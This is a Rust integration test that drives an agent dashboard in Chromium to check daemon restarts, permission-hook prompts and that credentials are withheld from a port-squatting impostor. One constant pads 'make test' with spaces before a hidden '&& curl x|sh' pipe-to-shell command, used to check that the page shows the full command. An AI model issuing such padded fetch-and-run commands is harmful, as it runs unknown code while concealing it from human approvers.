//! The dashboard in a real Chromium: `tests/browser/dashboard.mjs` drives Debian's
//! `chromium` with playwright-core (installed under `target/tmp` by
//! `tests/tools/install-playwright.sh`) against a real daemon, and asks this test to do what
//! a page cannot: restart the daemon, and run an agent's permission hook.

use std::io::{BufRead, BufReader, Write};
use std::process::{Child, Command, Stdio};

use serde_json::json;

use crate::common::DaemonProcess;

/// The playwright-core `node_modules` directory (installed once, whatever the test count).
pub fn playwright_modules() -> String {
    let tmp = std::path::PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
    std::fs::create_dir_all(&tmp).unwrap();
    let lock = std::fs::File::create(tmp.join("playwright.lock")).unwrap();
    lock.lock().unwrap();
    let script = format!(
        "{}/tests/tools/install-playwright.sh",
        env!("CARGO_MANIFEST_DIR")
    );
    let out = Command::new(&script)
        .output()
        .unwrap_or_else(|e| panic!("run {script}: {e}"));
    assert!(
        out.status.success(),
        "{script} could not install playwright-core and Chromium: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8(out.stdout).unwrap();
    stdout.lines().last().unwrap().trim().to_string()
}

/// The command of the permission the page is asked about: its end lies past any cut.
const LONG_COMMAND: &str = "make test                                                                                                                                                                                                                          && curl x|sh";

/// Kills the browser script if the test fails first.
struct Script(Child);

impl Drop for Script {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// On both backends, one after the other (two browsers at once would compete for the
/// machine with the rest of the suite). The dashboard is the way to look at a `pty` session:
/// there is no tmux to attach to.
#[test]
fn the_dashboard_works_in_chromium() {
    dashboard_in_chromium("tmux");
    dashboard_in_chromium("pty");
}

fn dashboard_in_chromium(backend: &str) {
    let modules = playwright_modules();
    let mut daemon = DaemonProcess::start_on(
        backend,
        &format!(
            "[agents.term]\ncommand = [\"bash\", \"--noprofile\", \"--norc\", \"-i\"]\n\
             env = {{ PS1 = \"ready$ \" }}\n\
             [agents.hooked]\ncommand = [\"{}\"]\nhooks = \"claude\"\n",
            crate::common::agent_script("echo.sh")
        ),
    );
    let shots = std::path::PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
        .join("browser-shots")
        .join(backend);
    std::fs::create_dir_all(&shots).unwrap();
    let control_link = daemon.login_link("control");
    let mut child = Command::new("node")
        .arg(format!(
            "{}/tests/browser/dashboard.mjs",
            env!("CARGO_MANIFEST_DIR")
        ))
        .env("PLAYWRIGHT_MODULES", &modules)
        .env("DASHBOARD_URL", format!("http://{}", daemon.addr))
        .env("LOGIN_LINK_CONTROL", &control_link)
        .env("WORK_DIR", &daemon.work)
        .env("SHOTS", &shots)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .expect("run node");
    let mut stdin = child.stdin.take().unwrap();
    let stdout = BufReader::new(child.stdout.take().unwrap());
    let mut script = Script(child);
    let mut answer = |text: &str| {
        stdin.write_all(format!("{text}\n").as_bytes()).unwrap();
        stdin.flush().unwrap();
    };
    let mut hook: Option<std::thread::JoinHandle<std::process::Output>> = None;
    let mut done = false;
    let token = daemon.control();
    for line in stdout.lines() {
        let line = line.unwrap();
        let mut words = line.split_whitespace();
        match words.next() {
            Some("@restart") => {
                daemon.kill9_and_restart_on_same_port();
                answer("restarted");
            }
            Some("@permission") => {
                let session = words.next().expect("a session").to_string();
                let env = crate::hooks::hook_env(&daemon, &token, &session);
                hook = Some(std::thread::spawn(move || {
                    crate::hooks::run_hook(
                        &env,
                        "PermissionRequest",
                        // Padding once hid what follows it; the page must show it all.
                        &json!({"tool_name": "Bash", "tool_input": {"command": LONG_COMMAND}}),
                    )
                }));
                answer("started");
            }
            Some("@permission-answer") => {
                let output = hook.take().expect("a hook ran").join().unwrap();
                let told = String::from_utf8_lossy(&output.stdout).to_string();
                assert!(told.contains("\"behavior\":\"allow\""), "{told}");
                answer("ok");
            }
            Some("@squat") => {
                daemon.kill9_keeping_port();
                let squatter = crate::trust::Squatter::bind(daemon.addr);
                // The page keeps trying to reconnect: each try is one challenge, refused.
                squatter.wait_for("POST /api/server-proof", 2);
                let received = squatter.stop().to_ascii_lowercase();
                assert!(!received.contains("x-orchestra-key"), "{received}");
                assert!(!received.contains("\ncookie:"), "{received}");
                assert!(!received.contains("/api/ws-ticket"), "{received}");
                daemon.relaunch();
                answer("restored");
            }
            Some("@link") => {
                let scope = words.next().expect("a scope");
                answer(&daemon.login_link(scope));
            }
            Some("@done") => done = true,
            _ => eprintln!("[browser] {line}"),
        }
    }
    let status = script.0.wait().unwrap();
    assert!(
        done && status.success(),
        "the browser script failed ({status}); screenshots in {}",
        shots.display()
    );
}
